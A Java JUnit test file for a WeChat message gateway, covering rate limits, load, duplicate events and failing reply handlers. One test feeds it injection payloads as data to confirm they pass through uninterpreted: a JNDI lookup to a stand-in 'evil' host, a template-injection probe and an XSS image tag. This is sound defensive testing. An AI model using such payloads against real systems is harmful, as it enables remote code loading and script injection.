package app.huisheng.wechat;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import app.huisheng.reply.Answering;
import app.huisheng.reply.Inbound;
import app.huisheng.reply.Reply;
import app.huisheng.simulator.Act;
import app.huisheng.simulator.Exchange.Verdict;
import app.huisheng.wechat.Witness.Outcome;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// How listeners behave, and how the door does when answering is slow or broken.
class AttendantTest {
  private static final Act.Said WORD = new Act.Said(Doorway.LISTENER, "80");

  @Test
  void case_29_a_hundred_messages_get_twenty_answers_one_hint_and_then_silence() {
    try (var door = new Doorway(true)) {
      var verdicts = new ArrayList<Verdict>();
      for (int i = 0; i < 100; i++) {
        verdicts.add(door.send(WORD).verdict());
      }
      assertThat(verdicts.subList(0, 20)).containsOnly(new Verdict.Text("heard: 80"));
      assertThat(verdicts.get(20))
          .isInstanceOfSatisfying(
              Verdict.Text.class, hint -> assertThat(hint.text()).contains("请歇一分钟"));
      assertThat(verdicts.subList(21, 100)).containsOnly(new Verdict.Nothing());
      assertThat(door.heard).hasSize(20);
      // Nobody else notices.
      assertThat(door.send(new Act.Said("oOther", "80")).verdict())
          .isEqualTo(new Verdict.Text("heard: 80"));
      door.at(door.now().plusSeconds(61));
      assertThat(door.send(WORD).verdict()).isEqualTo(new Verdict.Text("heard: 80"));
    }
  }

  /// Fifty messages a second from five thousand listeners for twenty minutes, on a clock of the
  /// test's own; how fast it is over real HTTP is measured by the bench.
  @Test
  void case_30_a_rush_of_sixty_thousand_messages_is_answered_each_with_its_own_answer() {
    var start = Instant.parse("2026-11-24T12:00:00Z");
    var sent = new AtomicInteger();
    var attendant =
        new Attendant(
            Doorway::echo, () -> start.plusMillis(20L * sent.get()), Duration.ofSeconds(20));
    for (int i = 0; i < 60_000; i++) {
      assertThat(sent.incrementAndGet()).isPositive();
      var push =
          new Push("gh_0", "oListener" + i % 5_000, "key" + i, new Inbound.Text("question " + i));
      var said = attendant.answer(push);
      assertThat(said.outcome()).isEqualTo(Outcome.ANSWERED);
      assertThat(said.reply()).isEqualTo(new Reply.Text("heard: question " + i));
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"7", "99", "１", "第八十期"})
  void case_31_numbers_reach_the_answering_as_they_were_typed(String words) {
    try (var door = new Doorway(true)) {
      assertThat(door.send(new Act.Said(Doorway.LISTENER, words)).verdict())
          .isEqualTo(new Verdict.Text("heard: " + words));
      assertThat(door.heard).containsExactly(new Inbound.Text(words));
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "%",
        "_",
        "'",
        "\"",
        "--",
        "${jndi:ldap://evil/x}",
        "{{7*7}}",
        "<img src=x onerror=a()>"
      })
  void case_32_what_others_would_interpret_stays_as_it_is(String words) {
    for (boolean safe : new boolean[] {false, true}) {
      try (var door = new Doorway(safe)) {
        var exchange = door.send(new Act.Said(Doorway.LISTENER, words));
        assertThat(exchange.complaints()).isEmpty();
        assertThat(exchange.verdict()).isEqualTo(new Verdict.Text("heard: " + words));
      }
    }
  }

  @Test
  void case_35_following_and_leaving_a_hundred_times_harms_nothing() {
    try (var door = new Doorway(true)) {
      for (int i = 0; i < 100; i++) {
        var joined = door.send(new Act.Followed(Doorway.LISTENER, ""));
        var left = door.send(new Act.Left(Doorway.LISTENER));
        assertThat(joined.complaints()).isEmpty();
        assertThat(left.verdict()).isEqualTo(new Verdict.Nothing());
        door.at(door.now().plusSeconds(1));
      }
      door.at(door.now().plusSeconds(61));
      assertThat(door.send(new Act.Followed(Doorway.LISTENER, "")).verdict())
          .isEqualTo(new Verdict.Text("welcome"));
    }
  }

  @Test
  void an_event_that_comes_twice_acts_once() {
    try (var door = new Doorway(false)) {
      var tap = new Act.Tapped(Doorway.LISTENER, "latest");
      var first = door.send(tap);
      var second = door.send(tap);
      assertThat(second.rawResponse()).isEqualTo(first.rawResponse());
      assertThat(door.heard).containsExactly(new Inbound.Text("latest"));
    }
  }

  @Test
  void repetitions_wait_for_the_answer_that_is_being_made() throws Exception {
    var begun = new CountDownLatch(1);
    var release = new CompletableFuture<String>();
    try (var door = new Doorway(true);
        var threads = Executors.newVirtualThreadPerTaskExecutor()) {
      door.answering(
          (_, _) -> {
            begun.countDown();
            return Doorway.text(release.join());
          });
      var message = Doorway.message("1", "80");
      var answers = new ArrayList<Future<String>>();
      for (int i = 0; i < 3; i++) {
        answers.add(threads.submit(() -> door.push(message).body()));
      }
      begun.await();
      release.complete("made once");
      var first = answers.getFirst().get();
      for (var answer : answers) {
        assertThat(answer.get()).isEqualTo(first);
      }
      assertThat(door.heard).hasSize(1);
    }
  }

  @Test
  void an_answer_that_does_not_come_in_time_is_silence_and_is_there_for_the_repetition()
      throws Exception {
    var release = new CompletableFuture<String>();
    try (var door = new Doorway(false, Duration.ofMillis(200))) {
      door.answering((_, _) -> Doorway.text(release.join()));
      var message = Doorway.message("1", "80");
      assertThat(door.push(message).body()).isEqualTo("success");
      assertThat(door.visits).extracting(Witness.Visit::outcome).containsExactly(Outcome.LATE);
      release.complete("late");
      await()
          .atMost(Duration.ofSeconds(30))
          .untilAsserted(() -> assertThat(door.push(message).body()).contains("late"));
      assertThat(door.heard).hasSize(1);
    }
  }

  @Test
  void whatever_answering_throws_is_silence_with_a_reference() {
    var broken =
        List.<Answering>of(
            (_, _) -> {
              throw new IllegalStateException("the database is gone");
            },
            (_, _) -> {
              throw new StackOverflowError();
            });
    try (var door = new Doorway(true)) {
      for (var answering : broken) {
        door.answering(answering);
        var exchange = door.send(WORD);
        assertThat(exchange.status()).isEqualTo(200);
        assertThat(exchange.rawResponse()).isEqualTo("success");
      }
      assertThat(door.visits)
          .allSatisfy(
              visit -> {
                assertThat(visit.outcome()).isEqualTo(Outcome.FAILED);
                assertThat(visit.note()).matches("[0-9a-f]{8}");
              });
    }
  }

  @Test
  void a_text_that_is_too_long_is_cut_rather_than_shown_as_an_outage() {
    try (var door = new Doorway(true)) {
      door.answering((_, _) -> Doorway.text("回".repeat(3000)));
      var exchange = door.send(WORD);
      assertThat(exchange.complaints()).isEmpty();
      assertThat(exchange.verdict()).isEqualTo(new Verdict.Text("回".repeat(682)));
    }
  }

  @Test
  void saying_nothing_is_success() {
    try (var door = new Doorway(true)) {
      door.answering((_, _) -> Doorway.answer(new Reply.Silence()));
      assertThat(door.send(WORD).rawResponse()).isEqualTo("success");
      door.answering((_, _) -> Doorway.text(" \n"));
      assertThat(door.send(WORD).rawResponse()).isEqualTo("success");
    }
  }
}
